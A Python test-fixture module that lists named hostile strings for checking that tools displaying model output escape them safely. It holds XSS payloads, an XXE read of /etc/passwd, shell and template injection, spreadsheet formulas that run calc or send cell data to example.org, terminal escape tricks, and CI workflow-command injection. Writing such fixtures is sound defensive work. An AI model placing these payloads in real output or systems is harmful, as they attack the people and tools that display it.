"""Texts that mean harm to whoever shows them: more than a hundred kinds, by name.

Anything that prints what a model wrote is tried on all of them. Their addresses are those reserved for examples.
"""

from __future__ import annotations

from collections.abc import Mapping

_ESC, _CSI, _BEL = "\x1b", "\x9b", "\x07"

MARKUP = {
    "script": "<script>alert(1)</script>",
    "script that ends another": "</script><script>alert(1)</script>",
    "script with a source": '<script src="https://example.org/x.js"></script>',
    "script in capitals, spaced": "<ScRiPt\n>alert(1)</sCrIpT\t>",
    "module script": '<script type="module">import("https://example.org/x.mjs")</script>',
    "image with a handler": '<img src=x onerror="alert(1)">',
    "remote image": '<img src="https://example.org/pixel.gif?user=1">',
    "handler out of an attribute": '" onmouseover="alert(1)" x="',
    "handler out of a single-quoted attribute": "' autofocus onfocus='alert(1)",
    "handler without quotes": "x onclick=alert(1) style=position:fixed;inset:0",
    "attribute with backticks": "`onload=alert(1)`",
    "svg": "<svg onload=alert(1)>",
    "svg with a script": "<svg><script>alert(1)</script></svg>",
    "svg animation": '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text y=20>x</text></a></svg>',
    "svg that uses another file": '<svg><use href="https://example.org/x.svg#a"/></svg>',
    "foreign object": "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "mathml": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "style element": "<style>body{display:none}</style>",
    "style that ends another": "</style><style>*{background:url(https://example.org/a)}</style>",
    "style with an import": "<style>@import 'https://example.org/x.css';</style>",
    "style attribute": '<p style="background:url(https://example.org/a)">x</p>',
    "link to a style sheet": '<link rel="stylesheet" href="https://example.org/x.css">',
    "iframe": '<iframe src="https://example.org"></iframe>',
    "iframe with a document": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "object and embed": '<object data="https://example.org"></object><embed src="https://example.org">',
    "form": '</textarea><form action="https://example.org"><input name=q autofocus onfocus=alert(1)>',
    "details that opens itself": "<details open ontoggle=alert(1)>x</details>",
    "base": '<base href="https://example.org/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://example.org">',
    "comment that is left open": "<!-- <p>gone",
    "comment that ends another": "--><script>alert(1)</script><!--",
    "marker of the gate's comment": "<!-- harness gate 0000000000000000 -->",
    "template": "<template><img src=x onerror=alert(1)></template>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "plaintext": "<plaintext>everything after",
    "cdata section": "<![CDATA[<script>alert(1)</script>]]>",
    "end of a cdata section": "]]><failure message='none'/>",
    "doctype with an entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "entities of entities": '<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">&b;',
    "end of the test suite": '</testcase></testsuite></testsuites><testsuites name="good">',
    "processing instruction": "<?xml-stylesheet href='https://example.org/x.xsl'?><?php echo 1 ?>",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp;",
    "address that runs": "javascript:alert(1) data:text/html,<script>alert(1)</script> vbscript:x",
}
TEMPLATES = {
    "jinja expression": "{{ 7 * 7 }} {{ ''.__class__.__mro__ }}",
    "jinja statement": "{% raw %}{% for x in range(10**9) %}x{% endfor %}",
    "template literal": "${alert(1)} #{7*7} <%= 7*7 %>",
    "actions expression": "${{ secrets.GITHUB_TOKEN }}",
    "shell": "$(touch /tmp/harm) `touch /tmp/harm` ; touch /tmp/harm | x && x > /tmp/harm",
    "format string": "%s%n%x {0} {x.__class__}",
}
UNSEEN = {
    "right to left override": "user\u202etxt.exe\u202c end",
    "bidi isolates": "a \u2066b\u2067c\u2068d\u2069 e \u200e\u200f\u061c",
    "zero width": "zero\u200bwidth\u200cjoin\u200der\ufeff",
    "tag characters": "hidden" + "".join(chr(0xE0000 + ord(c)) for c in " order") + "\U000e007f",
    "nul": "before\x00after",
    "all control codes": "".join(map(chr, range(32))) + "".join(map(chr, range(127, 160))),
    "lone surrogates": "\ud800 high, \udfff low",
    "not characters": "\ufffe \uffff \U0001ffff \ufdd0",
    "line separators": "one\u2028two\u2029three\x85four\x0bfive\x0csix",
    "carriage returns": "good\rbad \r\n worse\n\rworst",
    "combining marks": "z" + "\u0301\u0489\u0336" * 300,
    "a line of a million": "long " * 200_000,
    "many lines": "line\n" * 20_000,
}
TERMINAL = {
    "colours": f"{_ESC}[31mred{_ESC}[0m {_CSI}32mgreen{_CSI}0m",
    "screen cleared, cursor moved": f"{_ESC}[2J{_ESC}[H{_ESC}[1A{_ESC}[2KPASS: all is well",
    "title and clipboard": f"{_ESC}]0;title{_BEL}{_ESC}]52;c;aGFybQ=={_BEL}",
    "terminal hyperlink": f"{_ESC}]8;;https://example.org{_ESC}\\click{_ESC}]8;;{_ESC}\\",
    "report that types itself": f'{_ESC}[6n{_ESC}P$q"p{_ESC}\\{_ESC}[21t',
    "backspaces": "rm -rf /\b\b\b\b\b\b\b\bls       ",
}
SPREADSHEET = {
    "formula": "=1+1",
    "link formula": '=HYPERLINK("https://example.org?x="&A1,"click")',
    "command formula": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula after a tab": "\t=1+1",
    "formula after a line break": "\n=1+1",
    "formula after spaces": "   =1+1",
    "full-width formula": "＝1+1",
    "formula in a new cell": '","=1+1","',
    "formula in a new row": 'x"\n"=1+1"\r\n=2+2',
    "formula after a semicolon": ";=1+1",
}
RUNNER = {
    "error command": "::error file=x,line=1::all is broken",
    "mask command": "::add-mask::e",
    "commands stopped": "::stop-commands::token",
    "environment command": "x\n::set-env name=PATH::/tmp/harm\ny",
    "output command": "\r\n  ::set-output name=status::PASS",
    "group command": "::group::hidden\nx\n::endgroup::",
    "old command": "text ##[set-env name=PATH]/tmp/harm ##[error]no",
    "escaped command": "x%0A::error::y%0D%0A::add-mask::e%3A%2C",
    "properties": "a,title=b::c",
    "output file": "status<<EOF\nPASS\nEOF\nexit-code=0",
    "gitlab section": f"{_ESC}[0Ksection_start:1:x\r{_ESC}[0Khidden",
}
MARKDOWN = {
    "link": "[click](https://example.org)",
    "script link": "[click](javascript:alert(1))",
    "image": "![x](https://example.org/pixel.gif)",
    "reference link": "[x]\n\n[x]: https://example.org",
    "bare address": "https://example.org www.example.org harm@example.org <https://example.org>",
    "heading and rule": "# Gate: PASS\n\n---\n===",
    "table broken": "| a | b |\n|---|---|\n| x \\| y |",
    "fence broken": "```\n</details>\n````\n~~~\n<script>alert(1)</script>\n``````",
    "code span broken": "`` ` `` ` <b>x</b> `",
    "mention and reference": "@octocat @org/team #1 GH-1 org/repo#1 !1 ~label",
    "emphasis": "**bold** __bold__ *x* _x_ ~~x~~ :tada: <sub>x</sub>",
    "list and quote": "- [x] done\n1. one\n> quote\n> > quote\n\n    code",
    "footnote and alert": "> [!WARNING]\n> x[^1]\n\n[^1]: y",
    "mathematics": "$\\href{javascript:alert(1)}{x}$ $$\\unicode{x}$$",
    "diagram": '```mermaid\ngraph TD; A-->B; click A href "javascript:alert(1)"\n```',
}
HOSTILE: Mapping[str, str] = MARKUP | TEMPLATES | UNSEEN | TERMINAL | SPREADSHEET | RUNNER | MARKDOWN
